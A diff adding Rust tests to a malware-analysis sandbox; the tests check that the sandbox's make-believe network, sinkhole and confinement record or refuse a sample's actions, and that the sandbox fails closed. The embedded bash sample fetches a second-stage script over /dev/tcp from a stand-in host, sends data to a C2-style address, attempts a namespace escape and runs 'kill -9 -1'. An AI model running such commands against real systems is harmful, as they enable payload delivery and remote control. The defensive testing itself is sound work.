@@ -166,6 +166,94 @@ fn a_script_that_persists_steals_and_downloads_is_malicious() {
     );
 }
 
+/// The sandbox's make-believe network: a name resolves to an address of its own, any address
+/// reaches the sinkhole, which records what the sample sends and answers HTTP; a namespace
+/// call is refused with SIGSYS and named; the sample cannot signal the sandbox's first process
+/// (Landlock's scope), so the network still answers after `kill -9 -1`.
+#[test]
+fn the_network_is_make_believe_and_escapes_are_refused() {
+    let dir = TempDir::new("sandbox-net");
+    let script = "#!/bin/bash\n\
+        exec 3<>/dev/tcp/updates.example.test/80\n\
+        printf 'GET /stage2.sh HTTP/1.1\\r\\nHost: updates.example.test\\r\\n\\r\\n' >&3\n\
+        cat <&3 > stage2.sh\n\
+        exec 4<>/dev/tcp/203.0.113.9/4444; printf 'hello c2' >&4; exec 4<&-\n\
+        unshare -U true\n\
+        kill -9 -1\n\
+        exec 5<>/dev/tcp/after.example.test/8080\n\
+        printf 'GET /after HTTP/1.0\\r\\nHost: after.example.test\\r\\n\\r\\n' >&5\n\
+        cat <&5 > after.txt\n";
+    let file = write(&dir, "net.sh", script);
+    let (_, r, none_left) = detonate_checked(&dir, &file, 20);
+    assert!(none_left, "a process of the sample outlived its task");
+    let conns = r["connections"].as_array().unwrap();
+    let find = |dst: &str| {
+        conns
+            .iter()
+            .find(|c| c["dst"] == dst)
+            .unwrap_or_else(|| panic!("no connection to {dst}: {r:#}"))
+    };
+    let web = find("198.18.0.1:80");
+    assert_eq!(web["protocol"], "http");
+    assert_eq!(web["name"], "updates.example.test");
+    assert_eq!(web["request"], "GET http://updates.example.test/stage2.sh");
+    let c2 = find("203.0.113.9:4444");
+    assert_eq!(c2["protocol"], "data");
+    assert_eq!(c2["first_bytes"], "hello c2");
+    let ids = hits(&r);
+    for want in [
+        "network.outbound_connect",
+        "network.http_request",
+        "network.executable_download",
+        "privilege.namespace",
+    ] {
+        assert!(ids.iter().any(|i| i == want), "{want} missing: {ids:?}");
+    }
+    assert_eq!(r["confinement"]["seccomp"], true, "{r:#}");
+    assert_eq!(r["confinement"]["any_address"], true, "{r:#}");
+    assert_ne!(r["confinement"]["landlock"], "none", "{r:#}");
+    if r["confinement"]["landlock"] == "full" {
+        // Scoped: `kill -9 -1` could not reach the sandbox's first process.
+        let after = find("198.18.0.2:8080");
+        assert_eq!(after["request"], "GET http://after.example.test/after");
+    }
+    assert!(r["dns"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|d| d == "updates.example.test"));
+    let stage2 = r["files_dropped"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["path"] == "/tmp/scratch/stage2.sh")
+        .unwrap_or_else(|| panic!("{r:#}"));
+    assert!(stage2["size"].as_u64().unwrap() > 40, "{r:#}");
+}
+
+/// Fail closed: a sandbox whose first process never runs the sample confined gives an error,
+/// never a clean report.
+#[test]
+fn a_sandbox_that_cannot_confine_the_sample_gives_no_verdict() {
+    use sekisho_sandbox::{Limits, Rules, Sandbox, SandboxError, Tools};
+    let dir = TempDir::new("sandbox-noinit");
+    let sandbox = Sandbox {
+        tools: Tools {
+            helper: "/usr/bin/true".into(),
+            ..Tools::default()
+        },
+        limits: Limits::default(),
+        work_dir: dir.path().join("work"),
+        keep: false,
+    };
+    let rules = Rules::load(&[rules()]).unwrap();
+    let _one = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
+    let err = sandbox
+        .analyze(b"#!/bin/sh\necho hello\n", &rules)
+        .unwrap_err();
+    assert!(matches!(err, SandboxError::Setup(_)), "{err}");
+}
+
 #[test]
 fn a_program_that_forks_in_a_loop_is_stopped_and_malicious() {
     let dir = TempDir::new("sandbox-fork");
